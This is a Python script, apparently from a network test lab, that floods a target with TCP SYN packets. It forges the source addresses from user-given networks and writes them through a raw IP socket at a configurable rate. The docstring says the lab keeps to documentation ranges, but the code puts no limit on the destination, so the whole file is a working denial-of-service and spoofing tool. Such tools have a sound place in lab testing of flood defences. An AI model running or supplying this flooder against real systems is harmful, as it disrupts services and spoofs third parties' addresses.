"""Send a SYN flood with forged sources, as hping3 --rand-source does, but with the sources
drawn from the networks given (the lab keeps to the documentation ranges and its own bogon).

Each round sends one SYN from every source in turn, so consecutive packets carry different
senders; --rounds rounds at --rate packets a second.  The packets are whole IP datagrams
written to a raw IP socket (IP_HDRINCL), so they leave through the namespace's own routing
like any other.  Stdlib only (the SYN is ethsend.py's).

Usage: floodsend.py --dst 192.0.2.10 --dport 443 --sources 198.51.100.0/24,10.99.0.0/28
                    [--skip 198.51.100.66] [--rounds 3] [--rate 500] [--ttl 64]
"""
import argparse
import ipaddress
import socket
import sys
import time

from ethsend import syn


def sources(nets: str, skip: set[str]) -> list[str]:
    out = []
    for net in nets.split(","):
        for a in ipaddress.ip_network(net.strip(), strict=False).hosts():
            if str(a) not in skip:
                out.append(str(a))
    return out


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--dst", required=True)
    ap.add_argument("--dport", type=int, default=443)
    ap.add_argument("--sources", required=True, help="comma-separated networks whose hosts are the senders")
    ap.add_argument("--skip", default="", help="comma-separated addresses not to forge")
    ap.add_argument("--rounds", type=int, default=3)
    ap.add_argument("--rate", type=float, default=500.0, help="packets a second")
    ap.add_argument("--ttl", type=int, default=64)
    a = ap.parse_args()
    try:
        srcs = sources(a.sources, {s.strip() for s in a.skip.split(",") if s.strip()})
        socket.inet_aton(a.dst)
    except (ValueError, OSError) as e:
        print(f"floodsend: {e}", file=sys.stderr)
        return 2
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    gap = 1.0 / a.rate if a.rate > 0 else 0.0
    start, sent = time.monotonic(), 0
    for r in range(a.rounds):
        for i, src in enumerate(srcs):
            pkt = syn(src, a.dst, 1024 + (i * 7 + r * 131) % 60000, a.dport, a.ttl, (i + r * 4099) & 0xFFFF)
            s.sendto(pkt, (a.dst, 0))
            sent += 1
            ahead = start + sent * gap - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
    print(f"floodsend: {sent} SYNs from {len(srcs)} sources in {time.monotonic() - start:.1f} s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
